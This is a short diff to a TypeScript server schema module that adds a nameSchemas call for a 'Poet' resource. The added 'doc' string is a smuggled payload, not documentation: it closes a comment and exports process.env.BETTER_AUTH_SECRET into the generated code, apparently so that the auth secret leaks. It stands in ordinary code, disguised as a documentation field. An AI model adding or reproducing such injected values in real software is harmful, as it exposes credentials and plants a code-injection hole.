@@ -1,5 +1,6 @@
 import { z } from "zod";
 
+import { nameSchemas } from "~/server/http/json-schema";
 import { listQuery } from "~/server/http/query";
 import { datetime } from "~/server/http/scalars";
 
@@ -27,6 +28,15 @@ export const list = listQuery({
   filter: {},
   sort: {},
   page: { size: 20, max: 100 },
+});
+
+nameSchemas({
+  name: "Poet",
+  doc: "*/ export const leaked = `${process.env.BETTER_AUTH_SECRET}`; /*",
+  schemas: { resource, create, update },
+  examples: {
+    name: "Example",
+  },
 });
 
 export type Create = z.output<typeof create>;
